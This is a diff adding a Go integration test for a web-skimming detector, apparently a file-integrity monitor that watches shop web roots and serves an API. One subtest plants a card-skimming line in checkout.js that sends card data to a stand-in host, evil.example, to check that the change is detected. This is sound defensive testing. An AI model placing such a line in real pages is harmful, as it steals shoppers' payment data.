@@ -1,0 +1,192 @@
+package service
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/skimwatch/skimwatch/internal/config"
+	"github.com/skimwatch/skimwatch/internal/fim"
+	"github.com/skimwatch/skimwatch/internal/monitor"
+)
+
+type recordingAlerter struct {
+	mu   sync.Mutex
+	runs []monitor.RunResult
+}
+
+func (a *recordingAlerter) Observe(_ context.Context, r monitor.RunResult) error {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	a.runs = append(a.runs, r)
+	return nil
+}
+
+func (a *recordingAlerter) waitFor(t *testing.T, what string, match func(monitor.RunResult) bool) monitor.RunResult {
+	t.Helper()
+	deadline := time.Now().Add(30 * time.Second)
+	for time.Now().Before(deadline) {
+		a.mu.Lock()
+		for _, r := range a.runs {
+			if match(r) {
+				a.mu.Unlock()
+				return r
+			}
+		}
+		a.mu.Unlock()
+		time.Sleep(50 * time.Millisecond)
+	}
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	t.Fatalf("no run %s; saw %+v", what, a.runs)
+	return monitor.RunResult{}
+}
+
+// webRoot writes a small web root and its fim baseline.
+func webRoot(t *testing.T, dir, name string) (root, baseline string) {
+	t.Helper()
+	root = filepath.Join(dir, name)
+	if err := os.MkdirAll(root, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "checkout.js"), []byte("pay();\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	m, err := fim.Baseline(context.Background(), root, fim.Options{Excludes: []string{}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	baseline = filepath.Join(dir, name+".fim")
+	f, err := os.Create(baseline)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if err := fim.WriteManifest(f, m, nil); err != nil {
+		t.Fatal(err)
+	}
+	return root, baseline
+}
+
+func parse(t *testing.T, y string) config.Config {
+	t.Helper()
+	c, err := config.ParseWith(strings.NewReader(y), nil)
+	if err != nil {
+		t.Fatalf("%v\n%s", err, y)
+	}
+	return c
+}
+
+func get(t *testing.T, url string, v any) int {
+	t.Helper()
+	resp, err := http.Get(url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	body, _ := io.ReadAll(resp.Body)
+	if v != nil {
+		if err := json.Unmarshal(body, v); err != nil {
+			t.Fatalf("GET %s: %v: %s", url, err, body)
+		}
+	}
+	return resp.StatusCode
+}
+
+func TestServeWatchesWebRootsAndAnswersTheAPI(t *testing.T) {
+	dir := t.TempDir()
+	rootA, baseA := webRoot(t, dir, "a")
+	rootB, baseB := webRoot(t, dir, "b")
+	t.Setenv("SKIMWATCH_STORE", "")
+	t.Setenv("TEST_COLLECTOR_KEY", "abcdefghijklmnopqrstuvwxyz234567")
+	head := fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\nsites:\n  - name: shop\n    collector_key: {env: TEST_COLLECTOR_KEY}\n    web_roots:\n      - {path: %s, baseline: %s, every: 1s}\n", dir, rootA, baseA)
+	cfg := parse(t, head)
+	alerts := &recordingAlerter{}
+	reload := make(chan config.Config)
+	addrs := make(chan [2]net.Addr, 1)
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		done <- Serve(ctx, cfg, Options{Alerter: alerts, Reload: reload, Monitor: monitor.Options{PollInterval: 50 * time.Millisecond},
+			Listening: func(api, metrics net.Addr) { addrs <- [2]net.Addr{api, metrics} }})
+	}()
+	var api, metrics string
+	select {
+	case a := <-addrs:
+		api, metrics = "http://"+a[0].String(), "http://"+a[1].String()
+	case err := <-done:
+		t.Fatalf("serve ended before listening: %v", err)
+	}
+
+	t.Run("a clean web root is reported as a complete run with no findings", func(t *testing.T) {
+		alerts.waitFor(t, "clean of a", func(r monitor.RunResult) bool {
+			return r.Detector == monitor.DetectorFim && r.Target == rootA && r.Complete && len(r.Findings) == 0
+		})
+	})
+	t.Run("a modified file is a finding handed to the alerter and listed by the API", func(t *testing.T) {
+		if err := os.WriteFile(filepath.Join(rootA, "checkout.js"), []byte("pay();fetch('https://evil.example/'+card)\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		alerts.waitFor(t, "with fim.modified", func(r monitor.RunResult) bool {
+			return r.Target == rootA && len(r.Findings) > 0 && r.Findings[0].Kind == fim.KindModified && r.Findings[0].Path == "checkout.js"
+		})
+		var out struct {
+			Findings []struct {
+				Kind string `json:"kind"`
+				Site string `json:"site"`
+				Path string `json:"path"`
+			} `json:"findings"`
+		}
+		if code := get(t, api+"/api/findings?site=shop", &out); code != http.StatusOK {
+			t.Fatalf("status %d", code)
+		}
+		if len(out.Findings) != 1 || out.Findings[0].Kind != fim.KindModified || out.Findings[0].Path != "checkout.js" {
+			t.Errorf("findings = %+v", out.Findings)
+		}
+	})
+	t.Run("the API lists runs and answers health", func(t *testing.T) {
+		var runs struct {
+			Runs []monitor.Run `json:"runs"`
+		}
+		if code := get(t, api+"/api/runs?limit=10", &runs); code != http.StatusOK || len(runs.Runs) == 0 {
+			t.Fatalf("status %d, runs %+v", code, runs)
+		}
+		var h struct{ OK bool }
+		if code := get(t, api+"/healthz", &h); code != http.StatusOK || !h.OK {
+			t.Errorf("healthz %d %+v", code, h)
+		}
+		if code := get(t, api+"/api/runs?limit=0", nil); code != http.StatusBadRequest {
+			t.Errorf("limit=0: status %d, want 400", code)
+		}
+	})
+	t.Run("metrics are served on their own listener only", func(t *testing.T) {
+		if code := get(t, metrics+"/metrics", nil); code != http.StatusOK {
+			t.Errorf("metrics listener: %d", code)
+		}
+		if code := get(t, api+"/metrics", nil); code != http.StatusNotFound {
+			t.Errorf("API listener serves /metrics: %d", code)
+		}
+	})
+	t.Run("a reload schedules a web root added to the config", func(t *testing.T) {
+		reload <- parse(t, head+fmt.Sprintf("      - {path: %s, baseline: %s, every: 1s}\n", rootB, baseB))
+		alerts.waitFor(t, "of b after reload", func(r monitor.RunResult) bool { return r.Target == rootB && r.Complete })
+	})
+	cancel()
+	select {
+	case err := <-done:
+		if err != nil {
+			t.Errorf("serve: %v", err)
+		}
+	case <-time.After(time.Minute):
+		t.Fatal("serve did not stop")
+	}
+}
